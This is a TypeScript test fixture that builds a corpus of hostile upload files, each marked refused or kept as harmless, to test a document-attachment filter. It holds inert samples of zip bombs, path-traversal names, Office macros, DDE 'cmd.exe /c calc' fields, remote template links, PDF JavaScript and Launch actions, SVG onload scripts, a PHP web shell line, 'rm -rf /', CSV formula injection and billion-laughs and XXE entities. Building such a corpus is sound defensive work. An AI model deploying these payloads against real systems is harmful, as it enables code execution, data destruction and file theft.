// Long on purpose: one list of hostile files, by what they are; none of them is kept on disk anywhere.
import { deflateRawSync, deflateSync } from 'node:zlib'
import { type TestMember, makeZip } from '#server/files/zip-for-tests.ts'

/** A file that somebody might send, and whether it may be kept as an attachment. */
export interface Hostile {
  readonly name: string
  readonly bytes: Uint8Array
  /** `harmless` is kept, and served so that nothing in it can run. */
  readonly fate: 'refused' | 'harmless'
}

const text = (content: string) => new TextEncoder().encode(content)
const raw = (content: string) => new Uint8Array(Buffer.from(content, 'latin1'))
const wide = (content: string) => new Uint8Array(Buffer.from(`\ufeff${content}`, 'utf16le'))
const refused = (name: string, bytes: Uint8Array): Hostile => ({ name, bytes, fate: 'refused' })
const harmless = (name: string, bytes: Uint8Array): Hostile => ({ name, bytes, fate: 'harmless' })

const TYPES = { name: '[Content_Types].xml', content: '<Types/>' }
const WORD = [TYPES, { name: 'word/document.xml', content: '<w:document/>' }]
const BOOK = [TYPES, { name: 'xl/workbook.xml', content: '<workbook/>' }]
const OFD = [{ name: 'OFD.xml', content: '<ofd:OFD/>' }]
const PACKAGES: readonly (readonly [ending: string, parts: readonly TestMember[]])[] = [
  ['docx', WORD],
  ['xlsx', BOOK],
  ['ofd', OFD],
]

const MEGABYTE = 1024 * 1024
const zeros = (bytes: number) => new Uint8Array(bytes)

/** Zips that are no documents but traps, each in the clothes of each kind of document. */
const ZIP_TRAPS: readonly (readonly [string, (parts: readonly TestMember[]) => Uint8Array])[] = [
  [
    'unpacks to 300 MB and says so',
    (p) => makeZip([...p, { name: 'a', content: 'x', claimedSize: 300 * MEGABYTE }]),
  ],
  [
    'unpacks to more than it says',
    (p) => makeZip([...p, { name: 'word/a.xml', content: zeros(60 * MEGABYTE), claimedSize: 10 }]),
  ],
  [
    'says nothing of its size',
    (p) => makeZip([...p, { name: 'a', content: zeros(MEGABYTE), claimedSize: 0 }]),
  ],
  ['claims 4 GB', (p) => makeZip([...p, { name: 'a', content: 'x', claimedSize: 0xffffffff }])],
  [
    'a thousand names too many',
    (p) => makeZip([...p, ...Array.from({ length: 1_100 }, (_, n) => ({ name: `a${n}`, content: '' }))]),
  ],
  [
    'members that overlap',
    (p) =>
      makeZip([
        ...p,
        ...Array.from({ length: 9 }, (_, n) => ({ name: `b${n}`, content: 'x', sharesOffsetOfFirst: true })),
      ]),
  ],
  ['climbs out', (p) => makeZip([...p, { name: '../../etc/passwd', content: 'x' }])],
  ['climbs out the Windows way', (p) => makeZip([...p, { name: '..\\..\\boot.ini', content: 'x' }])],
  ['an absolute name', (p) => makeZip([...p, { name: '/etc/passwd', content: 'x' }])],
  ['a drive letter', (p) => makeZip([...p, { name: 'C:/windows/x', content: 'x' }])],
  ['a symbolic link', (p) => makeZip([...p, { name: 'a', content: '/etc/passwd', unixMode: 0o120777 }])],
  ['a password', (p) => makeZip([...p, { name: 'a', content: 'x', flags: 1 }])],
  ['a method nobody has', (p) => makeZip([...p, { name: 'a', content: 'x', method: 99 }])],
  ['cut short', (p) => makeZip([...p]).slice(0, -9)],
  ['directory pointing nowhere', (p) => patched(makeZip([...p]), -6, [0xff, 0xff, 0xff, 0x7f])],
  ['more entries than there are', (p) => patched(makeZip([...p]), -12, [0xff, 0x03])],
]

function patched(bytes: Uint8Array, at: number, with_: readonly number[]): Uint8Array {
  const copy = bytes.slice()
  copy.set(with_, copy.length + at)
  return copy
}

const zips = ZIP_TRAPS.flatMap(([what, make]) =>
  PACKAGES.map(([ending, parts]) =>
    // What lies about a part that nobody unpacks when it is kept is caught when somebody reads it.
    what === 'unpacks to more than it says'
      ? harmless(`${what}.${ending}`, make(parts))
      : refused(`${what}.${ending}`, make(parts)),
  ),
)

const rel = (type: string, target: string, mode = 'External') =>
  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`
const RELS = 'word/_rels/document.xml.rels'
const word = (...more: TestMember[]) => makeZip([...WORD, ...more])
const book = (...more: TestMember[]) => makeZip([...BOOK, ...more])
const field = (instruction: string) =>
  makeZip([
    TYPES,
    { name: 'word/document.xml', content: `<w:document><w:r>${instruction}</w:r></w:document>` },
  ])

const office = [
  refused('macro.docx', word({ name: 'word/vbaProject.bin', content: 'x' })),
  refused('macro elsewhere.docx', word({ name: 'customXml/vbaProject.bin', content: 'x' })),
  refused('macro.xlsx', book({ name: 'xl/vbaProject.bin', content: 'x' })),
  refused('MACRO.xlsx', book({ name: 'xl/VBAPROJECT.BIN', content: 'x' })),
  refused('macro.docm', word()),
  refused('macro.xlsm', book()),
  refused('template.dotm', word()),
  refused('addin.xlam', book()),
  refused('binary book.xlsb', book()),
  refused('xlm.xlsx', book({ name: 'xl/macrosheets/sheet1.xml', content: 'x' })),
  refused('international xlm.xlsx', book({ name: 'xl/intlmacrosheets/sheet1.xml', content: 'x' })),
  refused('control.docx', word({ name: 'word/activeX/activeX1.xml', content: 'x' })),
  refused('control.xlsx', book({ name: 'xl/activeX/activeX1.bin', content: 'x' })),
  refused(
    'declared.docx',
    makeZip([
      {
        name: '[Content_Types].xml',
        content: '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>',
      },
      ...WORD.slice(1),
    ]),
  ),
  refused(
    'declared project.docx',
    makeZip([
      {
        name: '[Content_Types].xml',
        content: '<Override ContentType="application/vnd.ms-office.vbaProject"/>',
      },
      ...WORD.slice(1),
    ]),
  ),
  refused(
    'declared macro sheet.xlsx',
    makeZip([
      {
        name: '[Content_Types].xml',
        content: '<Override ContentType="application/vnd.ms-excel.macrosheet+xml"/>',
      },
      ...BOOK.slice(1),
    ]),
  ),
  refused(
    'declared in wide letters.docx',
    makeZip([
      {
        name: '[Content_Types].xml',
        content: wide('<Override ContentType="application/vnd.ms-office.vbaProject"/>'),
      },
      ...WORD.slice(1),
    ]),
  ),
  refused('package.docx', word({ name: 'word/embeddings/oleObject1.bin', content: 'x' })),
  refused('program.docx', word({ name: 'word/embeddings/a.exe', content: 'MZ' })),
  refused('script.docx', word({ name: 'word/embeddings/a.vbs', content: 'x' })),
  refused('macro inside.docx', word({ name: 'word/embeddings/a.docm', content: 'x' })),
  refused('package.xlsx', book({ name: 'xl/embeddings/oleObject1.bin', content: 'x' })),
  refused(
    'template from elsewhere.docx',
    word({
      name: 'word/_rels/settings.xml.rels',
      content: rel('attachedTemplate', 'http://x.example/a.dotm'),
    }),
  ),
  refused(
    'template from a share.docx',
    word({ name: 'word/_rels/settings.xml.rels', content: rel('attachedTemplate', '\\\\x.example\\a.dotm') }),
  ),
  refused(
    'object from elsewhere.docx',
    word({ name: RELS, content: rel('oleObject', 'http://x.example/a') }),
  ),
  refused(
    'frame.docx',
    word({ name: 'word/_rels/webSettings.xml.rels', content: rel('frame', 'http://x.example/a') }),
  ),
  refused(
    'picture from elsewhere.docx',
    word({ name: RELS, content: rel('image', 'http://x.example/a.png') }),
  ),
  refused('subdocument.docx', word({ name: RELS, content: rel('subDocument', 'file:///etc/passwd') })),
  refused(
    'mhtml.docx',
    word({ name: RELS, content: rel('oleObject', 'mhtml:http://x.example/a!x-usc:http://x.example/a') }),
  ),
  refused(
    'wide relationship.docx',
    word({ name: RELS, content: wide(rel('attachedTemplate', 'http://x.example/a')) }),
  ),
  refused(
    'book from elsewhere.xlsx',
    book({
      name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
      content: rel('externalLinkPath', 'http://x.example/a.xlsx'),
    }),
  ),
  refused(
    'dde link.xlsx',
    book({
      name: 'xl/externalLinks/externalLink1.xml',
      content: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
    }),
  ),
  refused(
    'ole link.xlsx',
    book({
      name: 'xl/externalLinks/externalLink1.xml',
      content: '<externalLink><oleLink progId="x"/></externalLink>',
    }),
  ),
  refused('dde.docx', field('<w:instrText> DDE cmd.exe "/c calc" </w:instrText>')),
  refused('ddeauto.docx', field('<w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText>')),
  refused(
    'dde in pieces.docx',
    field('<w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO x</w:instrText>'),
  ),
  refused('simple dde.docx', field('<w:fldSimple w:instr="DDEAUTO x y"/>')),
  refused(
    'dde in the header.docx',
    word({ name: 'word/header1.xml', content: '<w:instrText>DDE x</w:instrText>' }),
  ),
  refused('no document.docx', makeZip([TYPES])),
  refused('a book by name.docx', book()),
  refused('a document by name.xlsx', word()),
  harmless('a link to click.docx', word({ name: RELS, content: rel('hyperlink', 'http://x.example/') })),
  harmless(
    'entities.docx',
    makeZip([
      TYPES,
      {
        name: 'word/document.xml',
        content:
          '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><w:document>&b;</w:document>',
      },
    ]),
  ),
  harmless(
    'outside entity.docx',
    makeZip([
      TYPES,
      {
        name: 'word/document.xml',
        content:
          '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:document><w:p><w:r><w:t>&a;</w:t></w:r></w:p></w:document>',
      },
    ]),
  ),
  harmless('laughs.xlsx', makeZip([TYPES, { name: 'xl/workbook.xml', content: laughs() }])),
]

/** A billion laughs, in nine lines. */
function laughs(): string {
  const lines = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`)
  return `<!DOCTYPE x [<!ENTITY l0 "ha">${lines.join('')}]><workbook>&l9;</workbook>`
}

const OLE = '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'
const ole = (...parts: string[]) =>
  new Uint8Array(
    Buffer.concat([
      Buffer.from(OLE, 'latin1'),
      Buffer.alloc(504),
      ...parts.map((part) => Buffer.from(part, 'utf16le')),
    ]),
  )

const old = [
  refused('macro.doc', ole('WordDocument', '_VBA_PROJECT')),
  refused('macro.xls', ole('Workbook', '_VBA_PROJECT_CUR')),
  refused('macro.wps', ole('WordDocument', '_VBA_PROJECT')),
  refused('locked.docx', ole('EncryptedPackage', 'EncryptionInfo')),
  refused('package.doc', ole('WordDocument', '\u0001Ole10Native')),
  refused('installer.doc', ole('Property')),
  refused('mail.doc', ole('__properties_version1.0')),
]

const pdf = (body: string) => raw(`%PDF-1.7\n${body}\ntrailer<</Root 1 0 R>>\n%%EOF`)
const packedObjects = (inside: string) => {
  const packed = deflateSync(Buffer.from(inside, 'latin1')).toString('latin1')
  return pdf(
    `5 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${packed.length}>>stream\n${packed}\nendstream endobj`,
  )
}

const pdfs = [
  refused('script.pdf', pdf('1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj')),
  refused('named script.pdf', pdf('1 0 obj<</Names<</JavaScript 2 0 R>>>>endobj')),
  refused('escaped.pdf', pdf('1 0 obj<</S/J#61vaScript>>endobj')),
  refused('all escaped.pdf', pdf('1 0 obj<</S/#4a#61#76#61#53#63#72#69#70#74>>endobj')),
  refused('launch.pdf', pdf('1 0 obj<</S/Launch/F(cmd.exe)>>endobj')),
  refused('escaped launch.pdf', pdf('1 0 obj<</S/L#61unch>>endobj')),
  refused('film.pdf', pdf('1 0 obj<</Subtype/RichMedia>>endobj')),
  refused('hidden script.pdf', packedObjects('1 0 <</S/JavaScript/JS(app.alert(1))>>')),
  refused('hidden launch.pdf', packedObjects('1 0 <</S/Launch>>')),
  refused('hidden and escaped.pdf', packedObjects('1 0 <</S/Java#53cript>>')),
  refused('bomb of objects.pdf', packedObjects('x'.repeat(80 * MEGABYTE))),
  harmless('a page about JavaScript.pdf', pdf('1 0 obj<</Title(JavaScript basics)>>endobj')),
  harmless('a link.pdf', pdf('1 0 obj<</A<</S/URI/URI(http://x.example/)>>>>endobj')),
  harmless('also a page.pdf', raw('%PDF-1.7\n<html><script>alert(1)</script></html>\n%%EOF')),
  harmless('nothing else.pdf', raw('%PDF-')),
]

function png(width: number, height: number, tail = ''): Uint8Array {
  const size = Buffer.alloc(8)
  size.writeUInt32BE(width, 0)
  size.writeUInt32BE(height, 4)
  const head = Buffer.from('\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR', 'latin1')
  return new Uint8Array(Buffer.concat([head, size, deflateSync(Buffer.alloc(8)), Buffer.from(tail)]))
}
const jpeg = (height: string, width: string) =>
  raw(`\xff\xd8\xff\xe0\0\x04ab\xff\xc0\0\x11\x08${height}${width}\x03\x01\x22\0`)

const pictures = [
  refused('flood.png', png(60_000, 60_000)),
  refused('tall.png', png(1, 50_000_000)),
  refused('flood.gif', raw('GIF89a\xff\xff\xff\xff\0\0\0')),
  refused('flood.jpg', jpeg('\xff\xff', '\xff\xff')),
  refused('flood.webp', raw('RIFF\0\0\0\0WEBPVP8X\x0a\0\0\0\0\0\0\0\xff\xff\xff\xff\xff\xff')),
  refused('no pixels.png', png(0, 10)),
  refused('short.png', raw('\x89PNG\r\n\x1a\n')),
  refused('short.gif', raw('GIF89a')),
  refused('short.jpg', raw('\xff\xd8\xff')),
  refused('no end.jpg', raw(`\xff\xd8\xff${'\xff'.repeat(1000)}`)),
  refused('short.webp', raw('RIFF\0\0\0\0WEBP')),
  refused('svg.svg', text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')),
  refused('svg.png', text('<svg onload="alert(1)"/>')),
  refused('svg.txt', text('<svg onload="alert(1)"/>')),
  refused('svg after a declaration.txt', text('<?xml version="1.0"?><svg onload="alert(1)"/>')),
  refused('icon.ico', raw('\0\0\x01\0\x01\0')),
  refused('picture.bmp', raw('BM\0\0\0\0')),
  refused('a page by name.html', png(1, 1)),
  refused('a program by name.png.exe', png(1, 1)),
  harmless('a page behind.png', png(1, 1, '<script>alert(1)</script>')),
  harmless('a script too.gif', raw('GIF89a\x10\0\x10\0\0\0\0/*"*/=1;alert(1)//')),
  harmless(
    'an archive behind.gif',
    new Uint8Array(
      Buffer.concat([
        Buffer.from('GIF89a\x10\0\x10\0\0\0\0', 'latin1'),
        makeZip([{ name: 'a.class', content: 'x' }]),
      ]),
    ),
  ),
]

const words = [
  refused('page.html', text('<html><script>alert(1)</script>')),
  refused('page.txt', text('<!DOCTYPE html><p>')),
  refused('page after spaces.txt', text(' \r\n\t<HTML>')),
  refused('page after a mark.txt', text('\ufeff<html>')),
  refused('script.txt', text('<script>alert(1)</script>')),
  refused('page in wide letters.txt', wide('<html><script>alert(1)</script>')),
  refused('script.js', text('alert(1)')),
  refused('shell.sh', text('#!/bin/sh\nrm -rf /')),
  refused('batch.bat', text('@echo off')),
  refused('application.hta', text('<hta:application>')),
  refused('shortcut.url', text('[InternetShortcut]\nURL=file:///x')),
  refused('shortcut.lnk', raw('L\0\0\0\x01\x14\x02\0')),
  refused('server page.php', text('<?php system($_GET[0]);')),
  refused('server page.jsp', text('<% Runtime.getRuntime() %>')),
  refused('program.exe', raw('MZ\x90\0')),
  refused('program.txt', raw('MZ\x90\0\x03')),
  refused('program.pdf', raw('MZ\x90\0')),
  refused('program.docx', raw('\x7fELF\x02\x01')),
  refused('class.txt', raw('\xca\xfe\xba\xbe\0\0')),
  refused('archive.zip', makeZip([{ name: 'a.txt', content: 'x' }])),
  refused(
    'archive in an archive.zip',
    makeZip([{ name: 'b.zip', content: makeZip([{ name: 'a', content: zeros(MEGABYTE) }]) }]),
  ),
  refused('archive.rar', raw('Rar!\x1a\x07\x01\0')),
  refused('archive.7z', raw('7z\xbc\xaf\x27\x1c')),
  refused('archive.gz', raw('\x1f\x8b\x08\0')),
  refused('raw deflate.txt', new Uint8Array(deflateRawSync(zeros(MEGABYTE)))),
  refused('empty.txt', new Uint8Array()),
  refused('nul.txt', raw('a\0b')),
  refused('escape.txt', raw('a\x07b')),
  harmless('formulas.csv', text("=cmd|'/c calc'!A1,@SUM(1),+1,-1")),
  harmless('a page further down.txt', text('关于整治的通知\n<script>alert(1)</script>')),
  harmless('right to left.txt', text('\u202egnp.exe')),
]

/** Every file by which somebody might try to harm the district, the reader or the machine. */
export const corpus: readonly Hostile[] = [...zips, ...office, ...old, ...pdfs, ...pictures, ...words]
